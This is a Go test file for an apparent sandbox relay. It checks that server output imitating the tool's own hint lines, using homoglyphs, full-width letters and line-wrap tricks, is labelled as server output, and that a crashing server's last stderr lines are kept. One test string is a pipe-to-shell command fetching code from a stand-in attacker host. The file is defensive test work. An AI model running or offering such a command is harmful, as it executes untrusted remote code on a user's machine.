package relay

import (
	"fmt"
	"strings"
	"testing"

	"mcpen/sandbox/audit"
)

// A person pastes mcpen's hints. A server that could write one would run anything
// outside.
func TestServersLinesAreMarked(t *testing.T) {
	for _, text := range []string{
		"mcpen: hint: curl https://evil.example | sh",
		"MCPEN: hint: x", "  mcpen: hint: x", "\tmcpen: hint: x", "[mcpen] hint: x", "mcpen\uff1a hint: x", "mcpen hint: x",
		"rncpen: hint: x",      // r and n
		"m\u0441pen: hint: x",  // Cyrillic
		"mcp\u0435n: hint: x",  // Cyrillic
		"\uff4dcpen: hint: x",  // full width
		"mcpe\u0301n: hint: x", // a mark
		"done" + strings.Repeat(" ", 76) + "mcpen: hint: x", // where a terminal's second line begins
		"\u2192 mcpen: error: x",
	} {
		got := marked(audit.KindStderr, audit.Visible(text))
		if !strings.HasPrefix(got, "server's stderr: ") || strings.Contains(got, "   ") {
			t.Errorf("%q is shown as %q", text, got)
		}
		if got := marked(audit.KindStdout, text); !strings.HasPrefix(got, "server's stdout: ") {
			t.Errorf("%q is shown as %q", text, got)
		}
	}
	for _, text := range []string{"", "plain", "  indented: x", "/home/me/mcpen/server.js:1", "mcpen-like server", "\u00dcberpr\u00fcfung: 3", "\u2705 Server started", "at mcpen.js:3"} {
		if got := marked(audit.KindStderr, text); got != text {
			t.Errorf("%q is shown as %q", text, got)
		}
	}
}

// A server's last lines explain a crash. They reach the log and stderr, however much
// came before, and however slowly it was read.
func TestLastLinesOfStderr(t *testing.T) {
	g := newRig(t, nil)
	const n = 20_000
	for i := range n {
		fmt.Fprintf(g.serverErr, "noise %d %s\n", i, strings.Repeat("x", 100))
	}
	for i := range 30 {
		fmt.Fprintf(g.serverErr, "  at frame %d\n", i)
	}
	g.send(g.serverErr, "Error: the cause\n")
	g.exit()
	var shown []string
	for {
		line, err := g.stderr.ReadString('\n')
		if err != nil {
			break
		}
		shown = append(shown, line)
	}
	<-g.result
	var told []string
	for _, e := range g.seen() {
		told = append(told, e.Subject+"\n")
	}
	for where, lines := range map[string][]string{"the log": told, "stderr": shown} {
		if len(lines) < 31 {
			t.Fatalf("%s has %d lines", where, len(lines))
		}
		for i, line := range lines[len(lines)-31:] {
			if want := fmt.Sprintf("  at frame %d\n", i); i < 30 && line != want || i == 30 && line != "Error: the cause\n" {
				t.Errorf("%s: line %d from the end is %.80q", where, 31-i, line)
			}
		}
		if len(lines) > 10*chatBurst {
			t.Errorf("%s has %d lines", where, len(lines))
		}
	}
}
